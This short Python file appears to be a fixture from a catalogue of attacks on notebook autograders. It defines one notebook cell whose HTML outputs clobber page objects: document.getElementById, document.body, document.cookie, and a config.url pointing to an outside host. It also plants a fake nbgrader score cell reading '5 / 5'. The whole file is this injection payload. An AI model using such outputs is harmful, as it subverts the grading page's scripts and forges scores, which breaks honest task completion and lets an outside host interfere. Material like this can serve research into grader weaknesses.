"""Outputs have the names of parts of the page, so that its own scripts find them instead."""

HARMLESS = True
FLAW, TRICK = "V3", "injection"
CELLS = {
    "count": """from IPython.display import HTML, display
display(HTML("<a id=formgrader name=getElementById href=//x.org>x</a>"))
display(HTML("<form name=body><input name=score>"))
display(HTML("<div id='check-count' class='score nbgrader_cell' data-points=5>5 / 5</div>"))
display(HTML("<img name=cookie><a id=config><a id=config name=url href='//x.org'>y</a>"))"""
}
